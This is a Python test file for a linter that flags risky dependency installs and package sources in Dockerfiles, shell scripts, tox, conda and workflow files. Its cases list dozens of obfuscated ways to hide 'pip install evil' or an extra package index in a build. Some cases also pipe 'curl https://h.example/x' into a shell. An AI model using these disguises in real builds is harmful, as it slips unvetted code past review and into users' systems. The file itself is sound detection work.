"""Installs and sources in disguise: what a shell, an image builder or pip would honour all the same."""

from __future__ import annotations

import pytest

from mlhooks.formats import pypi

from .judging import rules

SOURCE = "https://h.example/s"
FROM = "FROM python:3.11\n"


@pytest.mark.parametrize(
    "command",
    [
        pytest.param("pip3.11 install evil", id="a version in the name"),
        pytest.param("python3 -mpip install evil", id="a module without a blank"),
        pytest.param("python3 -Impip install evil", id="a module in a cluster"),
        pytest.param("python3 -W ignore -m pip install evil", id="an option with a value before the module"),
        pytest.param("python -c \"import pip; pip.main(['install','evil'])\"", id="Python that is given as text"),
        pytest.param("python -c 'import os; os.system(\"pip install evil\")'", id="a shell in Python in a shell"),
        pytest.param("python <<EOF\nimport os\nos.system('pip install evil')\nEOF", id="Python that is fed"),
        pytest.param("<<EOF\n#!/usr/bin/env python\nimport os\nos.system('pip install evil')\nEOF", id="a shebang"),
        pytest.param("cat <<EOF | bash\npip install evil\nEOF", id="a here-document through a pipe"),
        pytest.param("echo 'pip install evil' | sh", id="echoed into a shell"),
        pytest.param("printf 'pip install evil' | bash -s", id="printed into a shell"),
        pytest.param("$'\\x70ip' install evil", id="escapes"),
        pytest.param("a=pi b=p; $a$b install evil", id="two variables"),
        pytest.param("pi${x}p install evil", id="a variable that is empty"),
        pytest.param("$(which pip) install evil", id="what which finds"),
        pytest.param("$PIP install evil", id="a variable called pip"),
        pytest.param("{pip,install,evil}", id="braces"),
        pytest.param('cat <<< "$(pip install evil)"', id="a substitution that is fed"),
        pytest.param("pip install -r /dev/stdin <<EOF\nevil\nEOF", id="requirements that are fed"),
        pytest.param("pipx inject app evil", id="into another environment"),
        pytest.param("pipx runpip app install evil", id="pip by way of pipx"),
        pytest.param("poetry self add evil", id="into Poetry itself"),
        pytest.param("pixi add --feature cuda evil", id="pixi"),
        pytest.param("echo $((1<<2))\nRUN pip install evil\n2", id="behind a shift"),
        pytest.param("echo <<EOF\nRUN pip install evil", id="behind a here-document without an end"),
    ],
)
def test_an_install_in_disguise(command: str) -> None:
    assert "unpinned-requirement" in rules("Dockerfile", f"{FROM}RUN {command}\n")


@pytest.mark.parametrize(
    "line",
    [
        pytest.param(f"ENV PIP_extra_index_url={SOURCE}", id="a variable in small letters"),
        pytest.param(f'ENV PIP_EXTRA_INDEX_URL="{pypi.SIMPLE} {SOURCE}"', id="behind PyPI"),
        pytest.param(f"RUN env PIP_EXTRA_INDEX_URL={SOURCE} pip install a==1", id="env"),
        pytest.param(f"RUN sudo PIP_EXTRA_INDEX_URL={SOURCE} pip install a==1", id="sudo"),
        pytest.param(f"RUN uv sync --extra-index-url {SOURCE}", id="uv sync"),
        pytest.param(f"RUN uv --index {SOURCE} lock", id="before the word"),
        pytest.param(f"RUN uv pip sync --index x={SOURCE} requirements.txt", id="uv pip sync"),
        pytest.param(f"RUN pip-compile --extra-index-url {SOURCE} requirements.in", id="pip-compile"),
        pytest.param(f"RUN pipx install --pip-args='--extra-index-url {SOURCE}' a==1", id="arguments in an argument"),
        pytest.param(f"RUN pip3 config --global set global.extra_index_url {SOURCE}", id="pip's own command"),
        pytest.param(f"RUN poetry source add x {SOURCE}", id="Poetry's own command"),
        pytest.param(f"COPY <<EOF /etc/pip.conf\n[global]\nextra-index-url = {SOURCE}\nEOF", id="a file from COPY"),
        pytest.param(
            f"RUN cat <<EOF > /etc/pip.conf\n[global]\nextra-index-url = {SOURCE}\nEOF", id="a file from a document"
        ),
        pytest.param(f"RUN echo '[global]\\nextra-index-url={SOURCE}' > /etc/pip.conf", id="a file from echo"),
        pytest.param(f"RUN echo 'extra-index-url={SOURCE}' | tee -a ~/.config/pip/pip.conf", id="a file from tee"),
        pytest.param("ENV PIP_EXTRA_INDEX_URL=https://h.example?@localhost/s", id="a host that looks like this one"),
    ],
)
def test_an_extra_index_in_disguise(line: str) -> None:
    assert "extra-index" in rules("Dockerfile", f"{FROM}{line}\n")


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        pytest.param(FROM + "CMD pip install evil && serve\n", "unpinned-requirement", id="when it starts"),
        pytest.param(FROM + 'ENTRYPOINT ["sh", "-c", "pip install evil"]\n', "unpinned-requirement", id="an entry"),
        pytest.param(FROM + "HEALTHCHECK CMD curl https://h.example/x | sh\n", "pipe-to-shell", id="a health check"),
        pytest.param(FROM + 'RUN bash <<< "$(curl https://h.example/x)"\n', "pipe-to-shell", id="a here-string"),
        pytest.param(FROM + "RUN sh < <(curl https://h.example/x)\n", "pipe-to-shell", id="a redirected substitution"),
        pytest.param(
            FROM + "RUN pip install -r <(curl https://h.example/r.txt)\n", "url-without-hash", id="fetched requirements"
        ),
        pytest.param(
            FROM + "ENV PIP_REQUIREMENT=https://h.example/r.txt\n", "url-without-hash", id="requirements by variable"
        ),
        pytest.param(
            FROM + 'RUN --mount=type=bind,"from=busybox",target=/x ls\n', "copy-from-latest", id="quotes in a mount"
        ),
        pytest.param("ARG T=3.11\nFROM python:${T#3.11}latest\n", "computed-requirement", id="a prefix cut off"),
        pytest.param("//syntax=evil/x\nFROM python:3.11\n", "untagged-image", id="another directive"),
        pytest.param("#!/usr/bin/env x\n# syntax=evil/x\nFROM python:3.11\n", "untagged-image", id="below a shebang"),
        pytest.param(FROM + "ENV CONDA_CHANNELS=a,http://h.example\n", "insecure-index", id="conda's variable"),
        pytest.param(FROM + "RUN conda config --add channels http://h.example\n", "insecure-index", id="conda config"),
        pytest.param(FROM + "RUN pip --trusted-host h.example install a==1\n", "trusted-host", id="in front"),
    ],
)
def test_other_disguises(text: str, expected: str) -> None:
    assert expected in rules("Dockerfile", text)


@pytest.mark.parametrize(
    "text",
    [
        pytest.param("RUN echo 'pip install evil' > notes.txt", id="a text in a file"),
        pytest.param("RUN echo 'pip install evil' | grep pip", id="a text through a pipe"),
        pytest.param("RUN python -c \"print('pip install evil')\"", id="Python that prints"),
        pytest.param(
            "RUN python train.py <<EOF\nimport os; os.system('pip install evil')\nEOF", id="input of a script"
        ),
        pytest.param("RUN cat <<EOF > x.txt\npip install evil\nEOF", id="a document in a file"),
        pytest.param("RUN mkdir -p /opt/{pip,conda}/install", id="braces in a path"),
        pytest.param("RUN uv sync --frozen --no-dev --extra cpu", id="from a lock"),
        pytest.param("RUN uv pip sync requirements.txt && pip-sync a.txt", id="files are no packages"),
        pytest.param("RUN pip config set global.timeout 60", id="another setting"),
        pytest.param("RUN conda config --add channels conda-forge", id="a channel by name"),
        pytest.param("RUN poetry source add --priority=explicit x https://h.example/s", id="an explicit source"),
        pytest.param("RUN echo 'extra-index-url = x' > README", id="a setting in another file"),
        pytest.param(
            "COPY <<EOF /app/notes.txt\nextra-index-url = https://h.example\nEOF", id="copied to another file"
        ),
        pytest.param("RUN $CC install && ${MAKE} install", id="other variables"),
        pytest.param('CMD ["python", "-m", "serve"]', id="what starts"),
        pytest.param("HEALTHCHECK --interval=5s CMD curl -f http://localhost/ || exit 1", id="a health check"),
        pytest.param("ENV PIP_NO_CACHE_DIR=1 PIP_EXTRA_INDEX_URL=", id="an empty variable"),
        pytest.param(f'ENV PIP_EXTRA_INDEX_URL="{pypi.SIMPLE} http://localhost:3141/x"', id="loopback"),
    ],
)
def test_honest_lines_stay_quiet(text: str) -> None:
    found = rules("Dockerfile", f"{FROM}{text}\n")
    assert [rule for rule in found if rule != "extra-index" or "localhost" not in text] == []


@pytest.mark.parametrize(
    ("path", "text", "expected"),
    [
        pytest.param(
            "tox.ini", "[testenv]\nsetenv =\n  PIP_EXTRA_INDEX_URL = {}\n", ["extra-index"], id="tox's variables"
        ),
        pytest.param("tox.ini", "[testenv]\nsetenv =\n  A = {}\n", [], id="tox's other variables"),
        pytest.param(
            "tox.ini",
            "[testenv]\ninstall_command = pip install --extra-index-url {} {{packages}}\n",
            ["extra-index"],
            id="tox's installer",
        ),
        pytest.param("a.py", "os.environ['PIP_EXTRA_INDEX_URL'] = '{}'\n", ["extra-index"], id="an environment"),
        pytest.param("a.py", "os.environ['PIP_NO_INPUT'] = '1'\n", [], id="another environment"),
        pytest.param("a.py", "run(['a'], env={{'PIP_EXTRA_INDEX_URL': '{}'}})\n", ["extra-index"], id="a dictionary"),
        pytest.param("a.py", "run([exe, '-mpip', 'install', 'evil'])\n", ["unpinned-requirement"], id="a module"),
        pytest.param("a.py", "run(args=['pip', 'install', 'evil'])\n", ["unpinned-requirement"], id="by keyword"),
        pytest.param("a.py", "os.system('pip3.11 install evil')\n", ["unpinned-requirement"], id="long quotes"),
        pytest.param("run.sh", "x=$((1<<2))\npip install evil\n", ["unpinned-requirement"], id="behind a shift"),
        pytest.param(
            "run.sh", 'cat <<E"O"F\nbla\nEOF\npip install evil\n', ["unpinned-requirement"], id="a quoted delimiter"
        ),
        pytest.param("run.sh", "cat <<'A B'\npip install x\nA B\n", [], id="a delimiter with a blank"),
        pytest.param(
            "environment.yml",
            "variables: {{PIP_EXTRA_INDEX_URL: '{}'}}\ndependencies: [a=1.2.3]\n",
            ["extra-index"],
            id="conda's variables",
        ),
        pytest.param(
            ".github/workflows/a.yml",
            "jobs: {{a: {{steps: [{{run: 'echo \"PIP_EXTRA_INDEX_URL={}\" >> $GITHUB_ENV'}}]}}}}\n",
            ["extra-index"],
            id="a workflow's variables",
        ),
    ],
)
def test_other_places(path: str, text: str, expected: list[str]) -> None:
    assert rules(path, text.format(SOURCE)) == expected
